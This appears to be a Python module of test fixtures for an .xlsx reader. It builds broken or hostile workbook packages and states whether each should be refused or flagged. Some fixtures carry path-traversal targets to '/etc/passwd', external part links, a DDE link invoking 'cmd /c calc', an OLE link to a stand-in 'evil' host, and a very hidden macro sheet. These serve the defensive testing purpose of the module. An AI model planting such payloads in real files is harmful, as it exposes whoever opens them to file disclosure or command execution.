"""Packages whose parts are missing, elsewhere, doubled, or no workbook at all."""

import io

from .archive import packed
from .book import (
    DOC_RELS, MAIN, book, changed, number, relationship, relationships, renamed, row, shared, t,
    workbook, worksheet, xml,
)
from .expectation import Fixture, accepted, content, num, refused, sheet
from .good_programs import converted, openpyxl_workbook, settled

FOREIGN = ("encrypted.xlsx", "old-format-renamed.xlsx", "open-document-renamed.xlsx")
RELS = "xl/_rels/workbook.xml.rels"
SHEET = "xl/worksheets/sheet1.xml"
CELLS = {"A1": num(42)}
PARTS = book(row(1, number("A1", 42)))
TEXTS = book(row(1, shared("A1", 0)), sst=[t("答")])


def targets():
    for word, target in (
        ("dots", "../../../etc/passwd"), ("dots-absolute", "/../../etc/passwd"),
        ("file", "file:///etc/passwd"), ("drive", "C:\\secret.xml"), ("unc", "\\\\server\\a.xml"),
        ("http", "http://192.0.2.1/sheet.xml"), ("encoded-dots", "%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
    ):
        data = changed(PARTS, RELS, ("worksheets/sheet1.xml", target))
        yield refused(f"target-{word}.xlsx", packed(data), "path", "missing-part",
                      "external-part")
    data = changed(TEXTS, RELS, ("sharedStrings.xml", "../../strings.xml"))
    yield refused("target-of-strings-outside.xlsx", packed(data), "path")
    data = changed(PARTS, "_rels/.rels", ("xl/workbook.xml", "../workbook.xml"))
    yield refused("target-of-workbook-outside.xlsx", packed(data), "path")
    for word, whole, target in (
        ("sheet", PARTS, "worksheets/sheet1.xml"), ("strings", TEXTS, "sharedStrings.xml"),
        ("styles", PARTS, "styles.xml"),
    ):
        data = changed(whole, RELS, (
            f'Target="{target}"', f'Target="http://192.0.2.1/{target}" TargetMode="External"'))
        yield refused(f"external-{word}.xlsx", packed(data), "external-part")
    data = changed(PARTS, "_rels/.rels", (
        'Target="xl/', 'TargetMode="External" Target="http://192.0.2.1/xl/'))
    yield refused("external-workbook.xlsx", packed(data), "external-part")


def missing():
    def without(*names, whole=PARTS):
        return packed({n: d for n, d in whole.items() if n not in names})

    yield refused("missing-workbook.xlsx", without("xl/workbook.xml"), "missing-part")
    yield refused("missing-sheet.xlsx", without(SHEET), "missing-part")
    yield refused("missing-strings.xlsx", without("xl/sharedStrings.xml", whole=TEXTS),
                  "missing-part")
    yield refused("missing-package-relationships.xlsx", without("_rels/.rels"), "not-a-workbook",
                  "missing-part")
    yield refused("missing-workbook-relationships.xlsx", without(RELS), "missing-part")
    yield refused("missing-content-types.xlsx", without("[Content_Types].xml"), "not-a-workbook",
                  "missing-part")
    yield refused("missing-relationship.xlsx",
                  packed(changed(PARTS, "xl/workbook.xml", ('r:id="rId1"', 'r:id="rId9"'))),
                  "missing-part")
    yield refused("missing-relationship-id.xlsx",
                  packed(changed(PARTS, "xl/workbook.xml", (' r:id="rId1"', ""))), "missing-part")
    yield refused("relationship-id-without-namespace.xlsx",
                  packed(changed(PARTS, "xl/workbook.xml", (' r:id="rId1"', ' id="rId1"'))),
                  "missing-part")
    yield refused("no-sheets.xlsx", packed(
        {**PARTS, "xl/workbook.xml": xml(workbook([]))}), "not-a-workbook",
        "missing-part")
    unused = book(row(1, number("A1", 42)), sst=[])
    yield accepted("missing-strings-unused.xlsx", without("xl/sharedStrings.xml", whole=unused),
                   CELLS)


def doubled():
    twice = book(("一", row(1, number("A1", 1))), ("二", row(1, number("A1", 2))))
    yield refused("one-part-for-two-sheets.xlsx", packed(changed(
        twice, RELS, ("sheet2.xml", "sheet1.xml"))), "ambiguous")
    yield refused("one-part-for-two-sheets-in-other-case.xlsx", packed(changed(
        twice, RELS, ("worksheets/sheet2.xml", "WORKSHEETS/Sheet1.xml"))), "ambiguous")
    yield refused("one-part-for-two-sheets-absolute.xlsx", packed(changed(
        twice, RELS, ("worksheets/sheet2.xml", "/xl/worksheets/../worksheets/sheet1.xml"))),
        "ambiguous")
    yield refused("one-relationship-for-two-sheets.xlsx", packed(changed(
        twice, "xl/workbook.xml", ('r:id="rId2"', 'r:id="rId1"'))), "ambiguous")
    yield refused("relationship-ids-doubled.xlsx", packed(changed(
        twice, RELS, ('Id="rId2"', 'Id="rId1"'))), "ambiguous")
    yield refused("sheet-names-doubled.xlsx", packed(changed(
        twice, "xl/workbook.xml", ('name="二"', 'name="一"'))), "ambiguous")
    named = book(("Answers", row(1, number("A1", 1))), ("ANSWERS", row(1, number("A1", 2))))
    yield refused("sheet-names-in-other-case.xlsx", packed(named), "ambiguous")
    for word, kind, target in (("strings", "sharedStrings", "sharedStrings.xml"),
                               ("styles", "styles", "styles.xml")):
        data = changed(TEXTS, RELS, (
            "</Relationships>",
            relationship("rId77", kind, "other.xml") + "</Relationships>"))
        data["xl/other.xml"] = data[f"xl/{target}"]
        yield refused(f"two-parts-of-{word}.xlsx", packed(data), "ambiguous")
    data = changed(PARTS, "_rels/.rels", (
        "</Relationships>",
        relationship("rId2", "officeDocument", "xl/other.xml") + "</Relationships>"))
    yield refused("two-workbooks.xlsx", packed({**data, "xl/other.xml": PARTS["xl/workbook.xml"]}),
                  "ambiguous")
    many = [(f"S{i}", "rId1", "") for i in range(1500)]
    yield refused("many-sheets-of-one-part.xlsx",
                  packed({**PARTS, "xl/workbook.xml": xml(workbook(many))}), "limit",
                  "ambiguous")
    names = ('<definedName name="回答">Sheet1!$A$1</definedName>'
             '<definedName name="回答">Sheet1!$B$1</definedName>')
    yield refused("defined-names-doubled.xlsx", packed(book(row(1, number("A1", 42)), names=names)),
                  "ambiguous")
    names = ('<definedName name="Answer">Sheet1!$A$1</definedName>'
             '<definedName name="ANSWER">Sheet1!$B$1</definedName>')
    yield refused("defined-names-in-other-case.xlsx", packed(book(row(1, number("A1", 42)), names=names)),
                  "ambiguous")
    names = '<definedName name="回答" localSheetId="7">Sheet1!$A$1</definedName>'
    yield accepted("defined-name-of-no-sheet.xlsx", packed(book(row(1, number("A1", 42)), names=names)),
                   CELLS)


def wrong_roots():
    def with_part(name, text):
        return packed({**PARTS, name: xml(text)})

    for word, name in (("sheet", SHEET), ("workbook", "xl/workbook.xml"), ("styles", "xl/styles.xml")):
        other = changed(PARTS, name, (MAIN, "http://example.com/spreadsheet"))
        yield refused(f"namespace-of-{word}.xlsx", packed(other), "namespace")
    other = changed(TEXTS, "xl/sharedStrings.xml", (MAIN, "http://example.com/strings"))
    yield refused("namespace-of-strings.xlsx", packed(other), "namespace")
    other = changed(PARTS, RELS, ("http://schemas.openxmlformats.org/package/2006/relationships",
                                  "http://example.com/relationships"))
    yield refused("namespace-of-relationships.xlsx", packed(other), "namespace", "missing-part")
    bare = changed(PARTS, SHEET, (f' xmlns="{MAIN}"', ""))
    yield refused("namespace-none.xlsx", packed(bare), "namespace")
    near = changed(PARTS, SHEET, (MAIN, MAIN + "/"))
    yield refused("namespace-nearly.xlsx", packed(near), "namespace")
    for word, root in (("html", "<html><body>42</body></html>"), ("sst", f'<sst xmlns="{MAIN}"/>'),
                       ("workbook", f'<workbook xmlns="{MAIN}"><sheetData/></workbook>'),
                       ("sheetData", f'<sheetData xmlns="{MAIN}"/>'),
                       ("chartsheet", f'<chartsheet xmlns="{MAIN}"/>')):
        yield refused(f"root-of-sheet-{word}.xlsx", with_part(SHEET, root), "wrong-root")
    yield refused("root-of-workbook-worksheet.xlsx", with_part("xl/workbook.xml", worksheet()),
                  "wrong-root")
    yield refused("root-of-styles-sst.xlsx", with_part("xl/styles.xml", f'<sst xmlns="{MAIN}"/>'),
                  "wrong-root")


def no_workbooks():
    def other(name, parts):
        return refused(name, packed(parts), "not-a-workbook")

    text = "設問,回答\r\nQ1,3\r\n"
    yield refused("empty-file.xlsx", b"", "not-a-workbook")
    yield refused("one-byte.xlsx", b"P", "not-a-workbook")
    yield refused("two-bytes.xlsx", b"PK", "truncated", "not-a-workbook")
    yield refused("csv-renamed.xlsx", text.encode(), "not-a-workbook")
    yield refused("csv-shift-jis-renamed.xlsx", text.encode("cp932"), "not-a-workbook")
    yield refused("csv-with-mark-renamed.xlsx", b"\xef\xbb\xbf" + text.encode(), "not-a-workbook")
    yield refused("csv-starting-with-pk.xlsx", b"PK,3\r\nQ1,3\r\n", "not-a-workbook")
    yield refused("unicode-text-renamed.xlsx", b"\xff\xfe" + text.encode("utf-16-le"),
                  "not-a-workbook")
    yield refused("html-renamed.xlsx", "<html><table><tr><td>3</td></tr></table></html>".encode(),
                  "not-a-workbook")
    yield refused("xml-spreadsheet-2003.xlsx", xml(
        '<?mso-application progid="Excel.Sheet"?><Workbook '
        'xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>'), "not-a-workbook")
    yield refused("pdf-renamed.xlsx", b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n", "not-a-workbook")
    yield refused("zip-empty.xlsx", packed({}), "not-a-workbook")
    yield other("zip-of-files.xlsx", {"readme.txt": b"text", "data.csv": text.encode()})
    yield other("zip-of-a-workbook.xlsx", {"回答.xlsx": packed(PARTS)})
    word = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    yield other("word-document.xlsx", {
        "[Content_Types].xml": xml(
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            f'<Override PartName="/word/document.xml" ContentType="{word}"/></Types>'),
        "_rels/.rels": xml(relationships(relationship("rId1", "officeDocument",
                                                      "word/document.xml"))),
        "word/document.xml": xml('<w:document xmlns:w="http://schemas.openxmlformats.org/'
                                 'wordprocessingml/2006/main"/>')})
    binary = renamed(PARTS, {"xl/workbook.xml": "xl/workbook.bin", RELS: "xl/_rels/workbook.bin.rels",
                             SHEET: "xl/worksheets/sheet1.bin"})
    binary = changed(binary, "_rels/.rels", ("workbook.xml", "workbook.bin"))
    binary["xl/workbook.bin"] = b"\x83\x01\x00\x80\x01\x32"
    binary["xl/worksheets/sheet1.bin"] = b"\x81\x01\x00"
    yield refused("binary-workbook-renamed.xlsx", packed(binary), "not-a-workbook", "old-format")
    compound = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    yield refused("compound-file-bare.xlsx", compound, "old-format")
    yield refused("package-of-nothing.xlsx", packed({"[Content_Types].xml": xml("<a/>")}),
                  "not-a-workbook", "missing-part", "wrong-root", "namespace")


def linked():
    """Links are told and never followed."""
    parts = book(
        row(1, number("A1", 42)),
        workbook_rels=[relationship("rId7", "externalLink", "externalLinks/externalLink1.xml"),
                       relationship("rId8", "externalLink", "externalLinks/externalLink2.xml")],
        more={
            "xl/externalLinks/externalLink1.xml":
                f'<externalLink xmlns="{MAIN}"><ddeLink ddeService="cmd" ddeTopic="/c calc">'
                '<ddeItems><ddeItem name="A0"/></ddeItems></ddeLink></externalLink>',
            "xl/externalLinks/externalLink2.xml":
                f'<externalLink xmlns="{MAIN}" xmlns:r="{DOC_RELS}"><oleLink r:id="rId1" '
                'progId="Package"/></externalLink>',
            "xl/externalLinks/_rels/externalLink2.xml.rels": relationships(relationship(
                "rId1", "oleObject", "http://192.0.2.1/evil", "External")),
        })
    yield accepted("link-to-a-program.xlsx", packed(parts), CELLS, findings=["external-links"])
    macro = book(row(1, number("A1", 42)), workbook_rels=[relationship(
        "rId9", "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet",
        "macrosheets/sheet1.xml")])
    macro = changed(macro, "xl/workbook.xml", (
        "</sheets>", '<sheet name="Macro1" sheetId="9" state="veryHidden" r:id="rId9"/></sheets>'))
    macro["xl/macrosheets/sheet1.xml"] = xml(
        '<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>')
    yield Fixture("macro-sheet.xlsx", packed(macro), {"accept": content(
        sheet(cells=CELLS), other=["Macro1"], findings=["macros"])})


def fixtures():
    for group in (targets, missing, doubled, wrong_roots, no_workbooks, linked):
        yield from group()


def by_other_programs():
    import msoffcrypto.format.ooxml as ooxml

    plain = io.BytesIO()
    openpyxl_workbook().save(plain)
    secret = io.BytesIO()
    ooxml.OOXMLFile(io.BytesIO(settled(plain.getvalue()))).encrypt("秘密", secret)
    yield refused("encrypted.xlsx", secret.getvalue(), "encrypted")
    old = converted(plain.getvalue(), ".xlsx", "xls")
    yield refused("old-format-renamed.xlsx", old, "old-format")
    open_document = settled(converted(plain.getvalue(), ".xlsx", "ods"))
    yield refused("open-document-renamed.xlsx", open_document, "not-a-workbook")
